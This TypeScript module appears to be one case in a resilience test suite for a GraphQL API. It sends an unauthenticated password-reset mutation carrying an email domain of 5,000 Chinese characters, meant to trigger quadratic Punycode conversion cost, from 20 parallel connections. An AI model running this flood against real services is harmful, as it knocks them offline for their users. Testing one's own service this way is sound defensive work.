import type { Attack } from "./attack.ts";
import { flood } from "./flood.ts";

const ask = `mutation ($email: String!) {
  requestPasswordReset(input: { email: $email }) { __typename }
}`;

const characters = 5000;
/** All others: writing them in ASCII takes the square of their number (RFC 3492 §6.3). */
const name = Array.from({ length: characters }, (_, n) =>
  String.fromCodePoint(0x4e00 + ((n * 7919) % 20_000)),
);
const email = `a@${name.join("")}.com`;

export const attack: Attack = {
  name: "long-address",
  what: "Mail addresses of 5,000 Chinese characters, from 20 connections without an account",
  async prepare({ graphql }) {
    const body = { query: ask, variables: { email } };
    return (signal) => flood(signal, 20, () => graphql(null, body, signal));
  },
};
